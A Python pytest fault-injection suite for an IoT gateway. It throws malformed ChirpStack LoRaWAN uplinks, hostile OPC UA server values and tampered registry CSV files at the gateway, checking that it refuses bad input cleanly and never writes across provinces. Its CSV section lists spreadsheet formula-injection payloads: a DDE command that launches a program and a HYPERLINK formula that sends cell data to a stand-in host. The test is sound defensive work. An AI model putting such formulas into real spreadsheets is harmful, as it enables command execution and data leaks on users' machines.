"""Hostile values inside valid shapes at three field boundaries: a ChirpStack uplink, an
OPC UA server's answer, a registry CSV of declarations and aggregates. Each test builds a
valid input with hypothesis and puts one hostile value in it (another device's identity,
NaN, 5000-digit integers, years 1 and 9999, wrong OPC UA variant types and statuses,
formula cells, another province's organisation, lookalike digits, BOMs, mixed line
endings, 100,000-character cells), then holds the boundary to its promise:

- LoRaWAN: an uplink gives a reading of the configured device at the uplink's own time, or
  ``Unmappable`` saying why in a few hundred characters; nothing else is raised (paho's
  network thread calls the parser: an exception ended it, and the device never read
  again), no reading under another DevEUI, and a good uplink after hostile ones arrives.
- OPC UA: a real asyncua server answers whatever the test sets; a turn gives the good
  node's reading (the hostile node left out unless it is a finite number of a good or
  uncertain status) or ``DeviceReadError``: never the schema's ``ValidationError`` (NaN
  and infinities crashed the agent's loop).
- Registry: an import stores exactly the file's rows, or none, with an error naming the
  line (and the field, for a bad cell); a province's import never writes another
  province's rows, on SQLite and PostgreSQL (whose 32-bit INTEGER and NUL-free text were
  500s at the write).

Each family is a row of the fault table. ``make test`` runs a few hundred examples per
test; ``make faults`` (``IOTGW_FAULTS=long``) more.
"""

from __future__ import annotations

import base64
import csv
import datetime as dt
import io
import json
import math
import time
import uuid
from collections import Counter
from collections.abc import Iterator
from typing import Any

import pytest
from asyncua import Server, ua
from asyncua.sync import ThreadLoop
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from iotgw.devices.telemetry import MAX_TS_MS
from iotgw.gateway.config import DeviceConfig
from iotgw.gateway.drivers.lorawan import make_source as make_lorawan
from iotgw.gateway.drivers.lorawan.source import LorawanSource
from iotgw.gateway.drivers.lorawan.uplink import FieldMap, Unmappable, Uplink, parse
from iotgw.gateway.drivers.opcua import make_source as make_opcua
from iotgw.gateway.drivers.opcua.source import OpcuaSource
from iotgw.gateway.errors import DeviceReadError
from iotgw.ingest import decode_message
from iotgw.ingest.points import Context
from iotgw.registry import (
    AggregateCount,
    Declaration,
    ImportFailed,
    OrgType,
    OutsideProvince,
    Sector,
    make_engine,
    seed_admin_units,
    session_factory,
)
from iotgw.registry.csv_export import export_csv
from iotgw.registry.csv_import import import_csv
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from iotgw.processes import Mosquitto, free_port
from tests import registry_setup as reg
from tests.api import conftest as api
from tests.faults import ledger
from tests.faults.ledger import LONG
from tests.gateway.drivers.lorawan.chirpstack import DEV_EUI, FIELDS, publish, retire, uplink
from tests.registry import conftest as registry_db

pytestmark = [pytest.mark.integration, pytest.mark.faults]
# The registry's fixtures: each registry test runs on SQLite and on PostgreSQL.
_postgres, engine, session = registry_db._postgres, registry_db.engine, registry_db.session

EXAMPLES = 1_500 if LONG else 300
SETTINGS = settings(max_examples=EXAMPLES, deadline=None, derandomize=True, database=None,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                                           HealthCheck.function_scoped_fixture])
MAX_REASON_CHARS = 600  # a refusal is logged and carried in the heartbeat: never the hostile value whole

# --- LoRaWAN: ChirpStack uplink events ---

DEVICE = "probe-7"
OTHER_EUI = "a84041000181c3e6"  # a neighbour's probe, one digit off
FIELD_MAPS = [FieldMap(path, f["quantity"], f.get("scale", 1.0)) for path, f in FIELDS.items()]
RECEIVED_MS = 1_795_940_200_000
RAW = "@@raw@@"  # replaced by JSON text json.dumps cannot write (5000 digits, deep nesting)


def _dump(event: dict[str, Any], raw: str | None) -> bytes:
    text = json.dumps(event)
    return (text if raw is None else text.replace(json.dumps(RAW), raw)).encode()


def _fullwidth(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if c.isalnum() else c for c in text)


HOSTILE_EUIS = [OTHER_EUI, OTHER_EUI.upper(), "a8-40-41-00-01-81-c3-e5", "a8:40:41:00:01:81:c3:e5",
                _fullwidth(DEV_EUI), DEV_EUI + "\n", DEV_EUI + "\x00", " " + DEV_EUI, "\u202e" + DEV_EUI,
                DEV_EUI[:-1], DEV_EUI * 1000, "", "+", "#", 0xA84041000181C3E5, None, [DEV_EUI],
                {"devEui": DEV_EUI}]
HUGE = ["9" * 400, "-" + "9" * 400, "1" + "0" * 5000, "1e309", "-1e309", "NaN", "Infinity", "-Infinity",
        "[" * 5000 + "]" * 5000, "{\"v\":" * 3000 + "1" + "}" * 3000]
ODD_VALUES = [1e308, -1e308, 5e-324, -0.0, "41.2", "", [412], {"v": 412}, None, True, 2**63, -(2**63)]
ODD_TIMES = ["9999-12-31T23:59:59Z", "2262-04-12T00:00:00Z", "2200-01-01T00:00:00Z", "0001-01-01T00:00:00Z",
             "1969-12-31T23:59:59Z", "1970-01-01T00:00:00Z", "1970-01-01T00:00:00.001Z", "", "now",
             "2026-11-29T08:15:02", "2026-11-29T08:15:02.1234567891234567891Z", "2026-11-29T08:15:02+14:00",
             "9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+23:59",
             "2026-11-29T08:15:02." + "9" * 10_000 + "Z",
             1_795_940_102, 1_795_940_102_000, None, [], {"seconds": 1}]
ODD_FCNTS = [True, False, -1, 2**32, 2**32 - 1, 2**64, 1.5, "10", None, [10]]
ODD_PORTS = [-1, 0, 224, 256, 65_536, 2**64, "2", None, 1.5, True]
ODD_DATA = ["", "!!!not base64", "A" * 100_000, "DSABmwkYAAAAEA", "=" * 8]
BIG_RX = [{"gatewayId": f"{n:016x}", "rssi": -61, "snr": 9.25} for n in range(10_000)]


@st.composite
def hostile_uplink(draw: st.DrawFn) -> tuple[str, bytes, dict[str, Any]]:
    """(family, payload, the event before any raw splice): the soil probe's valid uplink
    with one hostile value."""
    event = uplink("soil_probe")
    raw = None
    family = draw(st.sampled_from(["identity", "ignored fields", "decoded values", "time", "fCnt"]))
    if family == "identity":
        where = draw(st.sampled_from(["devEui", "devEui", "deviceName", "deviceInfo"]))
        if where == "devEui":
            event["deviceInfo"]["devEui"] = draw(st.sampled_from(HOSTILE_EUIS) | st.text(max_size=20))
        elif where == "deviceName":  # another device's name: the name decides nothing
            event["deviceInfo"]["deviceName"] = draw(st.sampled_from(["probe-8", "gw-dt-1/soil-2",
                                                                      "x" * 10_000]))
        else:
            event["deviceInfo"] = draw(st.sampled_from([None, [], DEV_EUI, {"devEUI": DEV_EUI}]))
    elif family == "ignored fields":  # what ChirpStack sends and the mapping does not read
        where = draw(st.sampled_from(["fPort", "data", "rxInfo"]))
        if where == "fPort":
            event["fPort"] = draw(st.sampled_from(ODD_PORTS) | st.integers())
        elif where == "data":  # the raw frame, of any length once decoded
            event["data"] = draw(st.sampled_from(ODD_DATA) | st.binary(max_size=300).map(
                lambda b: base64.b64encode(b).decode()))
        else:
            event["rxInfo"] = draw(st.sampled_from([[], BIG_RX, [None] * 100, "x"]))
    elif family == "decoded values":
        path = draw(st.sampled_from(["moisture", "temperature", "conductivity", "object"]))
        value: object = draw(st.sampled_from([RAW] * 3 + ODD_VALUES) | st.floats() | st.integers())
        if value == RAW:
            raw = draw(st.sampled_from(HUGE))
        if path == "object":
            event["object"] = value
        else:
            event["object"]["soil"][path] = value
    elif family == "time":
        event["time"] = draw(st.sampled_from(ODD_TIMES) | st.datetimes(
            timezones=st.timezones(), allow_imaginary=False).map(lambda d: d.isoformat()))
    else:
        event["fCnt"] = draw(st.sampled_from(ODD_FCNTS) | st.integers())
    return family, _dump(event, raw), event


def _parse(payload: bytes) -> Uplink:
    return parse(payload, dev_eui=DEV_EUI, device_id=DEVICE, fields=FIELD_MAPS, received_ms=RECEIVED_MS)


GOOD = _parse(json.dumps(uplink("soil_probe")).encode())


def _sender(event: dict[str, Any]) -> object:
    info = event.get("deviceInfo")
    return info.get("devEui") if isinstance(info, dict) else None


def test_hostile_uplinks_give_a_reading_of_their_device_or_a_short_refusal() -> None:
    seen: Counter[tuple[str, bool]] = Counter()
    future = {"uplinks": 0, "dead_lettered": 0}

    @SETTINGS
    @given(hostile_uplink())
    @example(("decoded values", _dump({**uplink("soil_probe"), "object": RAW}, "[" * 100_000), {}))
    def uplink_is_mapped_or_refused(case: tuple[str, bytes, dict[str, Any]]) -> None:
        family, payload, event = case
        try:
            got = _parse(payload)  # raises Unmappable, and nothing else
        except Unmappable as exc:
            assert 0 < len(str(exc)) <= MAX_REASON_CHARS, str(exc)[:MAX_REASON_CHARS]
            seen[family, False] += 1
            return
        seen[family, True] += 1
        sender = _sender(event)
        assert isinstance(sender, str) and sender.lower() == DEV_EUI, f"reading for devEui {sender!r:.60}"
        assert got.reading.device == DEVICE and got.dev_eui == DEV_EUI
        assert all(math.isfinite(v) for v in got.reading.values.values())
        assert 0 < got.reading.ts <= MAX_TS_MS
        f_cnt = got.frame[1]
        assert type(f_cnt) is int and 0 <= f_cnt < 2**32
        stamp = event.get("time")
        assert got.timed_by_network == bool(stamp), "an uplink's time taken for no time, or made up"
        if family == "ignored fields":  # nothing the mapping does not read changes the reading
            assert (got.reading, got.frame) == (GOOD.reading, GOOD.frame)
        if got.reading.ts > RECEIVED_MS + 300_000:  # far ahead: kept as it came, for ingest to refuse
            future["uplinks"] += 1
            batch = {"v": 1, "gateway": "gw-lora", "seq": 1,
                     "readings": [got.reading.model_dump(mode="json")]}
            decoded = decode_message("iot/v1/gw-lora/telemetry", json.dumps(batch).encode(),
                                     Context(now_ms=RECEIVED_MS))
            future["dead_lettered"] += bool(decoded.rejected) and not decoded.lines

    uplink_is_mapped_or_refused()
    for family in ("identity", "ignored fields", "decoded values", "time", "fCnt"):
        refused, mapped = seen[family, False], seen[family, True]
        ledger.refused(f"hostile LoRaWAN uplinks: {family}", ok=refused + mapped > 0,
                       verdict=f"{refused} refused with a short reason, {mapped} read as the device's own;"
                               " no other exception, no reading under another DevEUI")
    ledger.refused("LoRaWAN uplink timed far in the future",
                   ok=future["uplinks"] == future["dead_lettered"] > 0,
                   verdict=f"{future['uplinks']} kept at their own time; ingest dead-letters every one")


def _timed(f_cnt: int, moisture: int = 400) -> dict[str, Any]:
    stamp = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(RECEIVED_MS / 1000 + f_cnt * 60))
    return uplink("soil_probe", fCnt=f_cnt, devAddr="00189440", time=f"{stamp}.000000000Z",
                  object={"soil": {"moisture": moisture}})


@pytest.fixture
def lora_device(broker: Mosquitto, unique_name: str) -> Iterator[str]:
    yield f"{unique_name}-probe"
    retire(broker.port, f"{unique_name}-probe")


def test_hostile_uplinks_through_the_broker_never_stall_the_next_good_one(
        broker: Mosquitto, lora_device: str) -> None:
    """The uplinks that ended paho's thread (5000 digits, deep nesting, an integer beyond
    any float), another device's, and a replay of a frame with other values, between good
    ones: every good one is read in order, each hostile one refused or dropped."""
    device = DeviceConfig(id=lora_device, driver="lorawan", profile="soil_probe", interval_s=0.1,
                          lorawan={"broker": {"port": broker.port}, "dev_eui": DEV_EUI, "fields": FIELDS})
    source = make_lorawan(device)
    assert isinstance(source, LorawanSource)
    spliced = _timed(2)
    spliced["object"]["soil"]["moisture"] = RAW
    hostile: list[bytes] = [
        _dump(spliced, "9" * 5000),
        _dump(spliced, "[" * 100_000),
        _dump(spliced, "1" + "0" * 400),
        json.dumps({**_timed(3), "deviceInfo": {"devEui": OTHER_EUI}}).encode(),
        json.dumps({**_timed(4), "time": "9999-12-31T23:59:59Z"}).encode(),
        json.dumps({**_timed(5), "fCnt": 2**40}).encode(),
        json.dumps({**_timed(6), "rxInfo": BIG_RX}).encode(),  # read: rxInfo is not mapped
        json.dumps(_timed(1, moisture=999)).encode(),  # a replay of frame 1 with other values
    ]
    try:
        source.read(0)
        assert source.subscribed.wait(10), "no subscription within 10 s"
        publish(broker.port, [_timed(1), *hostile, _timed(7)])
        got, errors = [], []
        deadline = time.monotonic() + 20
        while len(got) < 3:
            assert time.monotonic() < deadline, f"{len(got)} of 3 readings within 20 s; errors {errors}"
            try:
                got.extend(source.read(0))
            except DeviceReadError as exc:
                errors.append(str(exc))
            time.sleep(0.05)
        source.committed()
        moistures = [(r.ts, r.values["soil_moisture"]) for r in got]
        ok = (moistures == [(RECEIVED_MS + 60_000, 40.0), (RECEIVED_MS + 360_000, 40.0),
                            (RECEIVED_MS + 420_000, 40.0)]
              and source.refused == 6 and source.repeats == 1
              and all(r.device == lora_device for r in got)
              and max(map(len, errors), default=0) <= MAX_REASON_CHARS)
        ledger.refused("hostile LoRaWAN uplinks through the broker, between good ones", ok=ok,
                       verdict=f"{source.refused} refused, {source.repeats} replay dropped, every good uplink"
                               f" read in order ({len(got)} of 3)")
    finally:
        source.close()


# --- OPC UA: a server answering whatever it is told ---

class HostileServer:
    """asyncua's server whose node ``ns=2;s=Line9.Temperature`` answers each read with the
    DataValue last given to ``answer`` (any variant type, status and timestamps: a value
    callback, past every check of a write), beside a well-behaved humidity node; with
    ``short``, each Read is answered with one value fewer than it asked for."""

    HUMIDITY = 64.0

    def __init__(self) -> None:
        self.endpoint = f"opc.tcp://127.0.0.1:{free_port()}/hostile/"
        self._loop = ThreadLoop(timeout=30)
        self._loop.start()
        self._answer = ua.DataValue(ua.Variant(21.5, ua.VariantType.Double))
        self.short = False
        self._server: Server | None = None
        self._loop.post(self._start())

    async def _start(self) -> None:
        server = Server()
        await server.init()
        server.set_endpoint(self.endpoint)
        server.set_security_policy([ua.SecurityPolicyType.NoSecurity])
        ns = await server.register_namespace("urn:iotgw:test:hostile")
        line = await server.nodes.objects.add_object(ua.NodeId("Line9", ns), "Line9")
        hostile = await line.add_variable(ua.NodeId("Line9.Temperature", ns), "Temperature", 0.0)
        await line.add_variable(ua.NodeId("Line9.Humidity", ns), "Humidity", self.HUMIDITY)
        server.set_attribute_value_callback(hostile.nodeid, lambda _node, _attr: self._answer)
        service = server.iserver.attribute_service
        read = service.read

        def answered(params: ua.ReadParameters) -> list[ua.DataValue]:
            results = read(params)
            return results[:-1] if self.short else results

        service.read = answered  # type: ignore[method-assign]
        await server.start()
        self._server = server

    def answer(self, value: ua.DataValue) -> None:
        self._answer = value

    def close(self) -> None:
        if self._server is not None:
            self._loop.post(self._server.stop())
        self._loop.stop()


@pytest.fixture(scope="module")
def opcua_server() -> Iterator[HostileServer]:
    server = HostileServer()
    yield server
    server.close()


VT = ua.VariantType
SCALE = 10.0  # 1e308 from the server overflows to infinity here
variants = st.one_of(
    st.floats().map(lambda f: ua.Variant(f, VT.Double)),
    st.floats(width=32).map(lambda f: ua.Variant(f, VT.Float)),
    st.integers(-(2**63), 2**63 - 1).map(lambda i: ua.Variant(i, VT.Int64)),
    st.integers(0, 2**64 - 1).map(lambda i: ua.Variant(i, VT.UInt64)),
    st.integers(-(2**31), 2**31 - 1).map(lambda i: ua.Variant(i, VT.Int32)),
    st.booleans().map(lambda b: ua.Variant(b, VT.Boolean)),
    st.sampled_from(["12.5", "", "NaN", "x" * 100_000]).map(lambda s: ua.Variant(s, VT.String)),
    st.binary(max_size=64).map(lambda b: ua.Variant(b, VT.ByteString)),
    st.lists(st.floats(allow_nan=False), max_size=5).map(lambda xs: ua.Variant(xs, VT.Double)),
    st.just(ua.Variant()),  # Null
    st.binary(max_size=32).map(lambda b: ua.Variant(
        ua.ExtensionObject(TypeId=ua.NodeId(999, 2), Body=b), VT.ExtensionObject)),
    st.sampled_from([dt.datetime(1601, 1, 1), dt.datetime(9999, 12, 31)]).map(
        lambda d: ua.Variant(d, VT.DateTime)),
    st.just(ua.Variant(uuid.UUID(int=7), VT.Guid)),
    st.just(ua.Variant(ua.LocalizedText("21.5"), VT.LocalizedText)),
    st.just(ua.Variant(ua.StatusCode(ua.StatusCodes.BadInternalError), VT.StatusCode)),
)
statuses = st.sampled_from([ua.StatusCodes.Good, ua.StatusCodes.GoodClamped,
                            ua.StatusCodes.UncertainLastUsableValue, ua.StatusCodes.BadInternalError,
                            ua.StatusCodes.BadTypeMismatch, 0xC0000000, 0x12345678, 0xFFFFFFFF, 0x40000001])
stamps = st.sampled_from([None, dt.datetime(1601, 1, 1, tzinfo=dt.UTC), dt.datetime(1500, 6, 1),
                          dt.datetime(9999, 12, 31, 23, 59, tzinfo=dt.UTC), dt.datetime(2026, 11, 29)])


def _expected(value: ua.Variant, status: ua.StatusCode) -> float | None:
    number = value.Value
    if status.is_bad() or not isinstance(number, int | float):
        return None
    try:
        scaled = float(number) * SCALE
    except OverflowError:
        return None
    return scaled if math.isfinite(scaled) else None


def test_hostile_opcua_values_are_left_out_never_a_crash(opcua_server: HostileServer) -> None:
    device = DeviceConfig(id="line9-climate", driver="opcua", profile="weather_station", interval_s=1,
                          opcua={"endpoint": opcua_server.endpoint, "timeout_s": 2, "nodes": {
                              "air_temperature": {"node": "ns=2;s=Line9.Temperature", "scale": SCALE},
                              "relative_humidity": "ns=2;s=Line9.Humidity"}})
    source = make_opcua(device)
    assert isinstance(source, OpcuaSource)
    seen = Counter[str]()

    @settings(SETTINGS, max_examples=max(EXAMPLES // 2, 100))
    @given(variants, statuses, stamps, stamps)
    @example(ua.Variant(math.nan, VT.Double), ua.StatusCodes.Good, None, None)
    @example(ua.Variant(1e308, VT.Double), ua.StatusCodes.Good, None, None)
    def value_is_read_or_left_out(value: ua.Variant, code: int, source_ts: dt.datetime | None,
                                  server_ts: dt.datetime | None) -> None:
        status = ua.StatusCode(code)
        opcua_server.answer(ua.DataValue(value, StatusCode=status, SourceTimestamp=source_ts,
                                         ServerTimestamp=server_ts))
        try:
            reading, = source.read(1_790_000_000_000)  # raises DeviceReadError, and nothing else
        except DeviceReadError:
            seen["read error"] += 1
            return
        want = _expected(value, status)
        assert reading.device == "line9-climate" and reading.ts == 1_790_000_000_000  # the agent's stamp
        assert reading.values.get("relative_humidity") == HostileServer.HUMIDITY
        assert reading.values.get("air_temperature") == want, (value.VariantType, code)
        assert (reading.quality == "uncertain") == (want is not None and status.is_uncertain())
        seen["read" if want is not None else "left out"] += 1

    try:
        value_is_read_or_left_out()
    finally:
        source.close()
    ledger.refused("hostile OPC UA values (wrong variant types, NaN/inf, huge, bad statuses, 1601/9999)",
                   ok=seen["left out"] > 0 and seen["read error"] == 0,
                   verdict=f"{seen['left out']} left out of the reading, {seen['read']} read as numbers;"
                           " the good node read every time, no crash")


def test_an_opcua_server_answering_too_few_values_is_a_read_error(opcua_server: HostileServer) -> None:
    device = DeviceConfig(id="line9-climate", driver="opcua", profile="weather_station", interval_s=1,
                          opcua={"endpoint": opcua_server.endpoint, "timeout_s": 2, "reconnect_min_s": 0.01,
                                 "nodes": {"air_temperature": "ns=2;s=Line9.Temperature",
                                           "relative_humidity": "ns=2;s=Line9.Humidity"}})
    source = make_opcua(device)
    opcua_server.answer(ua.DataValue(ua.Variant(21.5, VT.Double)))
    try:
        opcua_server.short = True
        with pytest.raises(DeviceReadError, match="answered 1 values for 2 nodes"):
            source.read(1)
        opcua_server.short = False
        time.sleep(0.05)  # past reconnect_min_s
        reading, = source.read(2)  # a new session, and the server's full answer
    finally:
        opcua_server.short = False
        source.close()
    ledger.refused("OPC UA server answering fewer values than nodes asked for",
                   ok=reading.values == {"air_temperature": 21.5,
                                         "relative_humidity": HostileServer.HUMIDITY},
                   verdict="a read error saying how many values came for how many nodes; the session"
                           " dropped, and the next turn reads")


# --- Registry: CSV imports of declarations and aggregates ---

HERE, THERE = 82, 75  # Đồng Tháp imports; Đồng Nai is another province
PLACED = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
# Digits of other scripts, superscripts, a zero-width space, letters for digits, and what
# int() or float() would take but a count is not.
LOOKALIKE = ["\uff11\uff12", "\u0661\u0662", "\u00b9\u00b2", "12\u200b", "1\u00a02", "I2", "l2", "O",
             "0x10", "1e3", "1e308", "-1", "NaN", "inf", str(2**31), "9" * 30, "9" * 5000, "1.5"]
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0"]
BAD_CELLS: dict[str, dict[str, list[str]]] = {
    "declarations": {
        "organisation_id": ["org-here:", "\uff4frg-here", "org-here\u200b", "=1+1", "x" * 100_000,
                            "org-nowhere"],
        "subject": ["MES", "=cmd", "mes;drop", "m", "x" * 100],
        "declared_on": ["\uff12\uff10\uff12\uff16-01-05", "2026-13-01", "0000-01-01", "1999-12-31",
                        "2101-01-01", "yesterday"],
        "holds": ["maybe", "\uff12", "NaN"],
        "level": ["11", "-1", "NaN", "\uff11", "1e308"],
        "source": ["x" * 100_000, "a\x00b", "\x1b[31mred", "a\u0085b"],
    },
    "aggregates": {
        "measure": ["E_INVOICE", "=1", "x" * 100],
        "level": ["Province", "country", "ward\x00"],
        "unit_code": LOOKALIKE,
        "year": ["\uff12\uff10\uff12\uff16", "1999", "2101", "2026.5"],
        "numerator": LOOKALIKE,
        "denominator": [*LOOKALIKE, "0"],
        "source": ["x" * 100_000, "a\x00b", "\x1b[31mred"],
    },
}
HEADERS = {"declarations": ["organisation_id", "subject", "declared_on", "holds", "level", "source"],
           "aggregates": ["measure", "level", "unit_code", "year", "numerator", "denominator", "source"]}


@pytest.fixture
def provinces(session: Session) -> Session:
    """Organisations of two provinces (``org-here``, ``org-there``), committed."""
    db = session
    seed_admin_units(db)
    for org, province in (("org-here", HERE), ("org-there", THERE)):
        [ward] = reg.wards_of(db, province, 1, current=True)
        reg.add_organisation(db, org, OrgType.SME, Sector.INDUSTRY, ward=ward, at=PLACED)
    db.commit()
    return db


@st.composite
def valid_rows(draw: st.DrawFn, kind: str) -> list[dict[str, str]]:
    """1-4 rows a province (declarations of its organisation) or the operator could import."""
    n = draw(st.integers(1, 4))
    if kind == "declarations":
        days = draw(st.lists(st.integers(0, 600), min_size=n, max_size=n, unique=True))
        return [{"organisation_id": "org-here", "subject": draw(st.sampled_from(["mes", "e_invoice"])),
                 "declared_on": (dt.date(2025, 1, 1) + dt.timedelta(days=d)).isoformat(),
                 "holds": draw(st.sampled_from(["true", "false", "1", "0"])),
                 "level": draw(st.sampled_from(["", "0", "3", "10"])),
                 "source": draw(st.sampled_from(["Cục Thuế", "Khảo sát Sở KH&CN 2025", "survey, 2026"]))}
                for d in days]
    years = draw(st.lists(st.integers(2000, 2100), min_size=n, max_size=n, unique=True))
    rows = []
    for year in years:
        denominator = draw(st.integers(1, 2**31 - 1))
        rows.append({"measure": "e_invoice", "level": "province", "unit_code": str(HERE), "year": str(year),
                     "numerator": str(draw(st.integers(0, denominator))), "denominator": str(denominator),
                     "source": "Cục Thuế"})
    return rows


def _csv(header: list[str], rows: list[list[str]], endings: list[str]) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    lines = []
    for cells in [header, *rows]:
        out.seek(0)
        out.truncate()
        writer.writerow(cells)
        lines.append(out.getvalue()[:-1])
    return "".join(line + endings[n % len(endings)] for n, line in enumerate(lines))


@st.composite
def hostile_csv(draw: st.DrawFn) -> dict[str, Any]:
    """A valid file of declarations or aggregates with one hostile thing in it, what it
    should come to (stored, refused naming a line and maybe a field), and who imports it."""
    kind = draw(st.sampled_from(["declarations", "aggregates"]))
    header = list(HEADERS[kind])
    rows = draw(valid_rows(kind))
    province = draw(st.sampled_from([None, HERE]))  # the operator, or a province's token
    attack = draw(st.sampled_from(["cell", "cell", "cell", "formula", "another province", "duplicate row",
                                   "duplicate column", "extra cell", "bom", "line endings", "huge field"]))
    at = draw(st.integers(0, len(rows) - 1))
    line, field, stored, formula = at + 2, None, False, None
    endings = ["\n"]
    if attack == "cell":
        field = draw(st.sampled_from(sorted(BAD_CELLS[kind])))
        rows[at][field] = draw(st.sampled_from(BAD_CELLS[kind][field]))
    elif attack == "formula":  # text a spreadsheet would run: stored as text, exported quoted
        rows[at]["source"] = formula = draw(st.sampled_from(FORMULAS))
        stored = True
    elif attack == "another province":
        if kind == "declarations":
            rows[at]["organisation_id"], field = "org-there", "organisation_id"
        else:  # another province's figures
            rows[at]["unit_code"] = str(draw(st.sampled_from([79, THERE])))
        stored = province is None  # the operator imports every province's rows
    elif attack == "duplicate row":
        rows.insert(at + 1, dict(rows[at]))
        line += 1
    elif attack == "duplicate column":
        header.append(draw(st.sampled_from(header)))
        line = 1
    elif attack == "extra cell":
        rows[at]["extra"] = "1"
    elif attack == "bom":  # a spreadsheet's UTF-8 byte order mark
        stored = True
    elif attack == "line endings":
        endings = draw(st.lists(st.sampled_from(["\n", "\r\n", "\r"]), min_size=1, max_size=6))
        stored = True
    else:  # longer than the csv module reads: no field to name, the line is named
        rows[at]["source"] = "y" * 200_000
    if kind == "aggregates" and province is not None:
        stored = False  # national figures, the operators' alone: refused for that, or for the attack
    cells = [[row.get(name, "") for name in header] + (["1"] if "extra" in row else []) for row in rows]
    text = _csv(header, cells, endings)
    return {"kind": kind, "attack": attack, "text": ("\ufeff" + text) if attack == "bom" else text,
            "province": province, "line": line, "field": field, "stored": stored, "rows": len(rows),
            "formula": formula}


def _count(db: Session, model: type) -> int:
    return db.scalar(select(func.count()).select_from(model)) or 0


def test_hostile_csv_imports_store_the_file_or_name_line_and_field(provinces: Session) -> None:
    db = provinces
    outcomes: Counter[tuple[str, str]] = Counter()

    @SETTINGS
    @given(hostile_csv())
    def imported_whole_or_refused(case: dict[str, Any]) -> None:
        kind, model = case["kind"], {"declarations": Declaration, "aggregates": AggregateCount}[case["kind"]]
        try:
            try:  # newline="": as the API and the CLI read it
                count = import_csv(db, kind, io.StringIO(case["text"], newline=""), source="x.csv",
                                   province=case["province"])
            except ImportFailed as exc:
                message = str(exc)
                assert not case["stored"], f"{case['attack']}: refused: {message[:300]}"
                assert _count(db, model) == 0 and not db.new, "a refused file left rows"
                want = f"x.csv: line {case['line']}: " + (f"{case['field']}" if case["field"] else "")
                operators = case["kind"] == "aggregates" and case["province"] is not None and \
                    "aggregates are imported by operators" in message
                assert want in message or operators, f"{case['attack']}: {want!r} not in {message[:300]!r}"
                assert len(message) < 2_000
                if case["province"] is not None and isinstance(exc, OutsideProvince):
                    outcomes[case["attack"], "403"] += 1
                else:
                    outcomes[case["attack"], "refused"] += 1
                return
            assert case["stored"], f"{case['attack']}: {kind} stored"
            assert count == case["rows"] == _count(db, model)
            if case["province"] is not None:  # only the province's own organisation
                assert {r.organisation_id for r in db.scalars(select(Declaration))} == {"org-here"}
            if case["attack"] == "formula":  # text in the registry, quoted in every export
                out = io.StringIO()
                export_csv(db, kind, out)
                cells = {cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row}
                assert "'" + case["formula"] in cells and case["formula"] not in cells
            outcomes[case["attack"], "stored"] += 1
        finally:
            db.rollback()

    imported_whole_or_refused()
    dialect = db.get_bind().dialect.name
    for attack in sorted({a for a, _ in outcomes}):
        shown = ", ".join(f"{n} {how}" for (a, how), n in sorted(outcomes.items()) if a == attack)
        ledger.refused(f"hostile registry CSV ({dialect}): {attack}", ok=True,
                       verdict=f"{shown}; each refusal names line (and field), nothing of the file stored")


stack = api.stack  # the API's fixture: a province's registry behind the real app


@pytest.fixture
def two_provinces(stack: api.Stack) -> api.Stack:
    """The API's stack, with an organisation in each of two provinces as above."""
    with session_factory(make_engine(stack.registry_url))() as db, db.begin():
        for org, province in (("org-here", HERE), ("org-there", THERE)):
            [ward] = reg.wards_of(db, province, 1, current=True)
            reg.add_organisation(db, org, OrgType.SME, Sector.INDUSTRY, ward=ward, at=PLACED)
    return stack


def test_hostile_csv_through_the_api_is_4xx_naming_line_and_field(two_provinces: api.Stack) -> None:
    """The same files posted by a province's token (Đồng Tháp, 82) and by an operator: 403
    (another province's rows, or aggregates) or 422 naming the line and field, 200 only
    for what the file may hold, never a 500 (the test client raises the server's errors)."""
    assert api.PROVINCE == HERE
    stack = two_provinces
    registry = session_factory(make_engine(stack.registry_url))
    statuses: Counter[int] = Counter()

    @settings(SETTINGS, max_examples=max(EXAMPLES // 3, 60))
    @given(hostile_csv())
    def posted(case: dict[str, Any]) -> None:
        who = "operator" if case["province"] is None else "dong_thap"
        answer = stack.client.post(f"/v1/registry/{case['kind']}", content=case["text"].encode(),
                                   headers={"Authorization": f"Bearer {stack.tokens[who]}",
                                            "Content-Type": "text/csv"})
        statuses[answer.status_code] += 1
        try:
            if case["stored"]:
                assert answer.status_code == 200, f"{case['attack']}: {answer.text[:300]}"
                return
            assert answer.status_code in (403, 422), answer.text[:300]
            detail = answer.json()["detail"]
            want = f"{case['kind']}.csv: line {case['line']}: {case['field'] or ''}"
            assert want in detail or (case["kind"] == "aggregates" and who != "operator"
                                      and "aggregates are imported by operators" in detail), detail[:300]
            if who != "operator":
                with registry() as db:
                    assert db.scalars(select(Declaration.organisation_id).where(
                        Declaration.organisation_id != "org-here")).all() == []
                    assert _count(db, AggregateCount) == 0
        finally:
            with registry() as db, db.begin():  # each example starts from an empty table
                db.query(Declaration).delete()
                db.query(AggregateCount).delete()

    posted()
    shown = ", ".join(f"{n}x {code}" for code, n in sorted(statuses.items()))
    ledger.refused("hostile registry CSV through the API (province token and operator)",
                   ok=500 not in statuses and statuses[200] > 0,
                   verdict=f"{shown}; each 4xx names line and field, a province writes only its own rows")
